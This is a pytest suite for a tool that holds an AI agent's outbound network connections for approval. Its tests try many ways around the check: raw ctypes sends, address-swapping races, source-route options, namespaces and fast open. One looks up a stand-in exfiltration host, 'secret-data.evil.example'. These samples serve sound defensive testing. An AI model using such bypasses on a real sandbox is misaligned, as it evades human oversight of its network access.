"""Connections and lookups that commands make by themselves, past the proxy: each waits for the policy."""

from __future__ import annotations

import socket
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from handrail.protocols import Decision

from .conftest import MakeTask, Task
from .servers import HOST, OTHER, Recorded

ON = {"contain": "on"}
CURL = "curl -sS --noproxy '*' -m 20"


@contextmanager
def datagrams(
    family: int = socket.AF_INET, host: str = "127.0.0.1"
) -> Iterator[tuple[int, Callable[[], bytes | None]]]:
    """A UDP port, and what has arrived there; None for nothing."""
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.bind((host, 0))
        sock.setblocking(False)

        def received() -> bytes | None:
            try:
                return sock.recv(100)
            except BlockingIOError:
                return None

        yield sock.getsockname()[1], received


def python(task: Task, path: Path, code: str, **more: object) -> dict[str, object]:
    path.write_text(code)
    return task.run(f"{sys.executable} {path}", **more)


@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0", "[::ffff:127.0.0.1]"])
def test_a_service_of_the_machine_itself_is_asked_about(make_task: MakeTask, plain: Recorded, host: str) -> None:
    task = make_task(ON)

    answer = task.run(f"{CURL} http://{host}:{plain.port}/")

    assert answer["exit_code"] == 7
    assert task.asked.texts == [f"curl wants 127.0.0.1:{plain.port}"]
    assert f"127.0.0.1:{plain.port}, a service of this machine itself" in answer["note"]
    assert plain.requests == []
    assert task.app.effects.latest() == []  # nobody was contacted
    task.asked.decision = Decision.ONCE
    assert task.run(f"{CURL} http://{host}:{plain.port}/")["exit_code"] == 0
    assert len(plain.requests) == 1
    (contacted,) = task.app.effects.describe(task.app.effects.latest()[0].number)["hosts"]
    assert contacted.endswith(f":{plain.port}")


def test_a_lookup_is_held_and_its_answer_is_not_asked_about_again(make_task: MakeTask, plain: Recorded) -> None:
    task = make_task(ON, decision=Decision.ONCE)

    assert task.run(f"{CURL} http://{OTHER}:{plain.port}/")["exit_code"] == 0

    assert task.asked.texts == [f"curl wants {OTHER}"]
    assert len(plain.requests) == 1


def test_a_refused_lookup_fails(make_task: MakeTask, tmp_path: Path) -> None:
    task = make_task({**ON, "resolve": {}})

    answer = python(
        task,
        tmp_path / "lookup.py",
        "import socket\ntry: socket.getaddrinfo('secret-data.evil.example', 443)\n"
        "except OSError as e: print('failed', e.errno == socket.EAI_NONAME)",
    )

    assert "failed True" in str(answer["output"]), answer  # for good: nobody tries again
    assert "secret-data.evil.example" in str(answer["note"])
    assert {text.partition(" wants ")[2] for text in task.asked.texts} == {"secret-data.evil.example"}


def test_a_host_with_a_port_may_be_looked_up_and_not_reached_elsewhere(make_task: MakeTask, plain: Recorded) -> None:
    task = make_task({**ON, "allow": (f"{OTHER}:1",)})

    assert task.run(f"{CURL} http://{OTHER}:{plain.port}/")["exit_code"] == 7

    assert task.asked.texts == [f"curl wants {OTHER}:{plain.port}"]


@pytest.mark.parametrize("way", ["sendto", "sendmsg", "connect", "sendmmsg", "no_family", "high_place"])
@pytest.mark.parametrize(("family", "host"), [("AF_INET", "127.0.0.1"), ("AF_INET6", "::1")])
def test_not_a_byte_goes_to_an_unlisted_place_by_udp(
    make_task: MakeTask, tmp_path: Path, way: str, family: str, host: str
) -> None:
    task = make_task(ON)
    with datagrams(getattr(socket, family), host) as (port, received):
        code = SENDERS.format(family=family, host=host, port=port, way=way)

        answer = python(task, tmp_path / "send.py", code)

        assert "OSError" in str(answer["output"]), answer
        assert received() is None
        if way == "sendmmsg" or (family == "AF_INET6" and way in ("no_family", "high_place")):
            # Several messages with addresses of their own are refused as such; the others have no address of the family.
            return
        task.asked.decision = Decision.ONCE
        assert "sent" in str(python(task, tmp_path / "send.py", code)["output"])
        assert received() == b"data"


SENDERS = """
import ctypes, socket, struct
s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
to = ("{host}", {port})
libc = ctypes.CDLL(None, use_errno=True)
def no_family():
    # IPv4 takes it for an address of its own, IPv6 for none.
    raw = bytes(2) + struct.pack(">H", {port}) + socket.inet_aton("127.0.0.1") + bytes(8)
    if libc.sendto(s.fileno(), b"data", 4, 0, raw, 16) < 0:
        raise OSError(ctypes.get_errno(), "refused")
def high_place():
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(ctypes.c_void_p(1 << 32), ctypes.c_size_t(4096), 3, 0x32, -1, ctypes.c_long(0))
    raw = struct.pack("=H", socket.AF_INET) + struct.pack(">H", {port}) + socket.inet_aton("127.0.0.1") + bytes(8)
    ctypes.memmove(at, raw, 16)
    if libc.sendto(s.fileno(), b"data", 4, 0, ctypes.c_void_p(at), 16) < 0:
        raise OSError(ctypes.get_errno(), "refused")
def sendmmsg():
    raw = struct.pack("=H", socket.AF_INET) + struct.pack(">H", {port}) + socket.inet_aton("127.0.0.1") + bytes(8)
    name, data = ctypes.create_string_buffer(raw, len(raw)), ctypes.create_string_buffer(b"data", 4)
    iov = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), 4), 16)
    one = struct.pack("QIxxxxQQQQiI", ctypes.addressof(name), len(raw), ctypes.addressof(iov), 1, 0, 0, 0, 0)
    both = ctypes.create_string_buffer(one * 2, len(one) * 2)
    if libc.sendmmsg(s.fileno(), both, 2, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
try:
    if "{way}" == "sendto": s.sendto(b"data", to)
    elif "{way}" == "sendmsg": s.sendmsg([b"da", b"ta"], [], 0, to)
    elif "{way}" == "sendmmsg": sendmmsg()
    elif "{way}" == "no_family": no_family()
    elif "{way}" == "high_place": high_place()
    else: s.connect(to); s.send(b"data")
    print("sent")
except OSError as error:
    print("OSError", error)
"""


@pytest.mark.parametrize("namespaces", ["--user", "--user --net", "--user --map-root-user --mount --pid --fork"])
def test_no_namespace_of_its_own_is_a_way_past_the_question(
    make_task: MakeTask, plain: Recorded, tmp_path: Path, namespaces: str
) -> None:
    task = make_task(ON)
    code = f"""
import socket
with datagram as u: u.sendto(b"data", ("127.0.0.1", {plain.port}))
""".replace("datagram", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)")
    with datagrams() as (port, received):
        (tmp_path / "send.py").write_text(code.replace(str(plain.port), str(port)))

        task.run(
            f"unshare {namespaces} {CURL} http://127.0.0.1:{plain.port}/; unshare {namespaces} {sys.executable} send.py"
        )

        assert plain.requests == []
        assert received() is None


def test_fast_open_does_not_go_past_the_question(make_task: MakeTask, plain: Recorded, tmp_path: Path) -> None:
    task = make_task(ON)
    code = f"""
import socket
s = socket.socket()
to = ("127.0.0.1", {plain.port})
for way in (lambda: s.sendto(b"GET /", 0x20000000, to), lambda: s.sendmsg([b"GET /"], [], 0x20000000, to)):
    try: way(); print("sent")
    except OSError as error: print("refused", error.errno)
"""

    answer = python(task, tmp_path / "fast.py", code)

    assert str(answer["output"]).count("refused") == 2
    assert plain.requests == []


def test_a_server_of_the_task_itself_is_reached_without_a_question(make_task: MakeTask, tmp_path: Path) -> None:
    (tmp_path / "page").write_text("hello")
    (tmp_path / "serve.py").write_text(
        "import http.server as h, pathlib\ns = h.ThreadingHTTPServer(('127.0.0.1', 0), h.SimpleHTTPRequestHandler)\n"
        "pathlib.Path('port').write_text(str(s.server_port))\ns.serve_forever()\n"
    )
    task = make_task(ON)
    started = task.run(f"{sys.executable} serve.py", background=True)

    answer = task.run(
        f"until [ -s port ]; do sleep 0.05; done; for host in 127.0.0.1 localhost; do {CURL} http://$host:$(cat port)/page; done"
    )

    assert answer["output"] == "hellohello", answer
    assert task.asked.requests == []
    task.app.handle_function_call("process", {"action": "kill", "session_id": started["session_id"]}, task_id="t")


def test_local_sockets_and_failing_connections_are_as_ever(make_task: MakeTask, tmp_path: Path) -> None:
    task = make_task({**ON, "allow": ("127.0.0.0/8",)})
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    code = f"""
import socket, os, errno
a = socket.socket(socket.AF_UNIX); a.bind("sock"); a.listen()
b = socket.socket(socket.AF_UNIX); b.connect("sock"); b.sendmsg([b"x"]); print(a.accept()[0].recv(1))
for s, expected in ((socket.socket(), "ECONNREFUSED"),):
    try: s.connect(("127.0.0.1", {port}))
    except OSError as e: print(errno.errorcode[e.errno])
s = socket.socket(); s.setblocking(False)
print(errno.errorcode.get(s.connect_ex(("127.0.0.1", {port})), 0) in ("EINPROGRESS", "ECONNREFUSED"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(("127.0.0.1", 9))
import ctypes; print(ctypes.CDLL(None).connect(u.fileno(), bytes(16), 16))
try: os.close(99) or socket.socket(fileno=99)
except OSError as e: print("EBADF" if e.errno == errno.EBADF else e)
"""

    answer = python(task, tmp_path / "sockets.py", code)

    assert str(answer["output"]).split() == ["b'x'", "ECONNREFUSED", "True", "0", "EBADF"], answer


def test_local_sockets_of_a_program_with_threads_are_as_ever(make_task: MakeTask, tmp_path: Path) -> None:
    task = make_task(ON)
    code = """
import os, socket, threading
stop = threading.Event()
threading.Thread(target=stop.wait).start()
a = socket.socket(socket.AF_UNIX); a.bind("sock"); a.listen()
b = socket.socket(socket.AF_UNIX); b.setblocking(False); b.connect("sock"); c = a.accept()[0]
b.sendmsg([b"x", b"y"]); print(c.recv(9), os.get_blocking(b.fileno()))
r, w = os.pipe()
socket.send_fds(b, [b"fd"], [r]); os.write(w, b"given"); print(os.read(socket.recv_fds(c, 9, 4)[1][0], 9))
u = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); u.bind("datagrams")
v = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); v.sendto(b"one", "datagrams"); print(u.recv(9))
os.symlink(os.path.abspath("datagrams"), "link"); v.sendmsg([b"two"], [], 0, "link"); print(u.recv(9))
for where in ("missing", "\\0nobody"):
    try: socket.socket(socket.AF_UNIX).connect(where)
    except OSError as e: print(type(e).__name__)
print(socket.getaddrinfo("localhost", 80, socket.AF_INET)[0][4][0])
s = socket.create_server(("127.0.0.1", 0)); t = socket.create_connection(s.getsockname())
t.sendmsg([b"by", b"tcp"]); print(s.accept()[0].recv(9))
stop.set()
"""

    answer = python(task, tmp_path / "threads.py", code)

    local = ["b'xy'", "False", "b'given'", "b'one'", "b'two'", "FileNotFoundError", "ConnectionRefusedError"]
    assert str(answer["output"]).split() == [*local, "127.0.0.1", "b'bytcp'"], answer
    assert task.asked.texts == []


def test_no_packet_takes_a_route_of_its_own(make_task: MakeTask, tmp_path: Path) -> None:
    """Over another host than the one that was asked about, or with an address in it that nobody has seen."""
    task = make_task({**ON, "allow": ("127.0.0.2",)})
    with datagrams() as (port, received):
        code = f"""
import socket, struct
over = bytes([131, 7, 4]) + socket.inet_aton("127.0.0.1") + bytes(1)
to = ("127.0.0.2", {port})
def datagram(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def option(): datagram().setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, over)
def option_of_6(): socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).setsockopt(41, 57, bytes(24))
def message(): s = datagram(); s.connect(to); s.sendmsg([b"data"], [(0, 7, over)])
def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 0, 1, 0, 64, 17, 0) + socket.inet_aton("127.0.0.1") * 2
    s.sendto(head + struct.pack(">HHHH", 9, {port}, 12, 0) + b"data", ("127.0.0.2", 0))
for way in (option, option_of_6, message, raw):
    try: print("sent", way())
    except OSError as e: print("refused")
"""

        assert str(python(task, tmp_path / "routes.py", code)["output"]).split() == ["refused"] * 4
        assert received() is None


RACES = """
import ctypes, socket, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
def address(host, port, family=socket.AF_INET):
    return struct.pack("=H", family) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)
bad = address("127.0.0.1", {port})
room = ctypes.create_string_buffer(bad, 16)
stop = False
def swap(*each):
    def run():
        while not stop:
            for one in each: one()
    threading.Thread(target=run, daemon=True).start()
def write(*texts):
    swap(*(lambda text=text: ctypes.memmove(room, text, len(text)) for text in texts))
def tcp():
    s = socket.socket()
    done = libc.connect(s.fileno(), room, 16) == 0 and is_there(s)
    s.close()
    return done
def is_there(s):
    try: return s.getpeername() == ("127.0.0.1", {port})
    except OSError: return False
def an_address():
    write(bad, address("127.0.0.2", 9))
    return tcp
def a_family():
    write(bad, address("127.0.0.1", {port}, socket.AF_UNSPEC))
    return tcp
def a_message():
    data = ctypes.create_string_buffer(b"data", 4)
    iov = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), 4), 16)
    head = bytearray(struct.pack("QIxxxxQQQQi", ctypes.addressof(room), 16, ctypes.addressof(iov), 1, 0, 0, 0) + bytes(4))
    message = (ctypes.c_char * len(head)).from_buffer(head)
    def name(at): return lambda: ctypes.memmove(message, struct.pack("QI", at, 16 if at else 0), 12)
    swap(name(ctypes.addressof(room)), name(0))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return lambda: libc.sendmsg(s.fileno(), message, 0) > 0
def a_socket(*kind):
    other, datagrams = socket.socket(*kind), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fd = libc.dup(other.fileno())
    swap(lambda: libc.dup2(datagrams.fileno(), fd), lambda: libc.dup2(other.fileno(), fd))
    data = ctypes.create_string_buffer(b"data", 4)
    iov = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), 4), 16)
    head = struct.pack("QIxxxxQQQQi", ctypes.addressof(room), 16, ctypes.addressof(iov), 1, 0, 0, 0) + bytes(4)
    def attempt():
        if other.family == socket.AF_UNIX:
            libc.connect(fd, room, 16)
            libc.sendto(fd, b"data", 4, 0x40, room, 16)
        return libc.sendmsg(fd, head, 0x4040) > 0 or is_there(datagrams)
    return attempt
def a_local_socket(): return a_socket(socket.AF_UNIX)
def a_connection(): return a_socket(socket.AF_INET)
attempt = {what}()
print("reached", sum(attempt() for _ in range(300)))
stop = True
"""


@pytest.mark.parametrize("what", ["an_address", "a_family", "a_message", "a_local_socket", "a_connection"])
def test_what_changes_while_it_is_checked_is_not_used(make_task: MakeTask, tmp_path: Path, what: str) -> None:
    """A thread puts another address, or another socket, in the place of what was asked about, as fast as it can."""
    task = make_task({**ON, "allow": ("127.0.0.2",)})
    with socket.create_server(("127.0.0.1", 0), backlog=400) as server, datagrams() as (udp, received):
        port = udp if what in ("a_message", "a_local_socket", "a_connection") else server.getsockname()[1]

        answer = python(task, tmp_path / "race.py", RACES.format(port=port, what=what), timeout=120)

        assert str(answer["output"]).split() == ["reached", "0"], answer
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
        assert received() is None


def test_a_person_can_take_their_time_while_the_connection_waits(make_task: MakeTask, plain: Recorded) -> None:
    task = make_task(ON, decision=Decision.ONCE)
    waiting, go_on = threading.Event(), threading.Event()
    decide = task.asked.decide

    def slowly(request: object) -> object:
        waiting.set()
        assert go_on.wait(20)
        return decide(request)  # type: ignore[arg-type]

    task.asked.decide = slowly  # type: ignore[assignment, method-assign]
    results: list[dict[str, object]] = []
    command = f"curl -sS --noproxy '*' http://127.0.0.1:{plain.port}/"
    thread = threading.Thread(target=lambda: results.append(task.run(command, timeout=1)))
    thread.start()
    assert waiting.wait(20)
    thread.join(1.5)  # longer than the command may take
    go_on.set()
    thread.join(20)

    assert results[0]["exit_code"] == 0, results


def test_names_and_addresses_of_the_policy_hold_for_both_ways(make_task: MakeTask, plain: Recorded) -> None:
    task = make_task({**ON, "allow": (HOST, "127.0.0.1"), "deny": (OTHER,)})

    both = [task.run(f"{how} http://{HOST}:{plain.port}/")["exit_code"] for how in ("curl -sS", CURL)]
    denied = [task.run(f"{how} -f http://{OTHER}:{plain.port}/") for how in ("curl -sS", CURL)]

    assert both == [0, 0]
    assert all(answer["exit_code"] and "network.deny" in answer["note"] for answer in denied), denied
    assert task.asked.requests == []


def test_by_default_a_command_that_connects_is_asked_about_and_only_that_costs_something(
    make_task: MakeTask, plain: Recorded
) -> None:
    task = make_task({"contain": "auto"})
    threads = {thread.name for thread in threading.enumerate()}
    assert task.run("env | grep -ci _proxy; true")["output"] == "0\n"
    assert "handrail-network" not in {thread.name for thread in threading.enumerate()} - threads

    assert task.run(f"curl -sS -m 20 http://{OTHER}:{plain.port}/")["exit_code"] != 0

    assert task.asked.texts == [f"curl wants {OTHER}"]
    assert plain.requests == []
    task.asked.decision = Decision.TASK
    for _ in range(2):
        assert task.run(f"curl -sS -m 20 http://{OTHER}:{plain.port}/")["exit_code"] == 0
    assert task.asked.texts == [f"curl wants {OTHER}"] * 2


def test_the_first_question_about_a_listed_host_offers_the_whole_list(make_task: MakeTask) -> None:
    task = make_task({"contain": "auto", "resolve": dict.fromkeys(("pypi.org", "registry.npmjs.org"), "127.0.0.1")})
    task.asked.decision = Decision.TASK

    for host in ("pypi.org", "registry.npmjs.org"):
        task.run(f"curl -sS -m 20 http://{host}:1/")

    assert task.asked.texts == ["curl wants pypi.org"]
    assert "the whole list package-registries" in task.asked.requests[0].reason


def test_with_nobody_to_ask_the_model_is_told_how_a_host_can_be_allowed(make_task: MakeTask, plain: Recorded) -> None:
    task = make_task({"contain": "auto"})
    task.app.runtime.approver = None

    answer = task.run(f"{CURL} http://127.0.0.1:{plain.port}/")

    assert "nobody is there to ask" in answer["note"]
    assert "network.allow in config.yaml" in answer["note"]
    assert plain.requests == []


def test_the_profile_open_asks_about_no_host(make_task: MakeTask, plain: Recorded, tmp_path: Path) -> None:
    task = make_task({"contain": "auto"})
    task.app.register_task_env_overrides("t", cwd=str(tmp_path), profile="open")

    assert task.run(f"{CURL} http://127.0.0.1:{plain.port}/")["exit_code"] == 0

    assert task.asked.requests == []


def test_the_server_of_another_task_is_asked_about(make_task: MakeTask, tmp_path: Path) -> None:
    task = make_task({"contain": "auto"})
    task.app.register_task_env_overrides("other", cwd=str(tmp_path))
    (tmp_path / "serve.py").write_text(
        "import pathlib, socket\ns = socket.create_server(('127.0.0.1', 0))\n"
        "pathlib.Path('port').write_text(str(s.getsockname()[1]))\nwhile True: s.accept()\n"
    )
    task.app.handle_function_call("terminal", {"command": f"{sys.executable} serve.py", "background": True}, "other")
    (server,) = task.app.processes.list("other")

    answer = task.run(f"until [ -s port ]; do sleep 0.05; done; {CURL} http://127.0.0.1:$(cat port)/")

    assert answer["exit_code"] == 7, answer
    assert len(task.asked.texts) == 1
    server.kill()  # it would outlive the test


def test_no_other_kind_of_socket_goes_past_the_question(make_task: MakeTask, tmp_path: Path) -> None:
    task = make_task(ON)
    code = """
import errno, socket
for family, kind, protocol in ((17, 3, 0), (40, 1, 0), (30, 5, 0), (2, 5, 132), (10, 1, 132), (21, 5, 0)):
    try: socket.socket(family, kind, protocol); print("made", family)
    except OSError as e: print(errno.errorcode[e.errno])
for family in (1, 2, 10, 16): socket.socket(family, socket.SOCK_DGRAM if family != 16 else socket.SOCK_RAW).close()
try:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for way in (lambda: raw.sendmsg([b"x" * 8], [], 0, ("127.0.0.1", 0)), lambda: raw.sendto(b"x" * 8, ("127.0.0.1", 0))):
        try: print("sent", way())
        except OSError as e: print("refused")
except PermissionError: print("refused", "refused")
"""

    answer = python(task, tmp_path / "kinds.py", code)

    assert str(answer["output"]).split() == ["EAFNOSUPPORT"] * 6 + ["refused"] * 2, answer
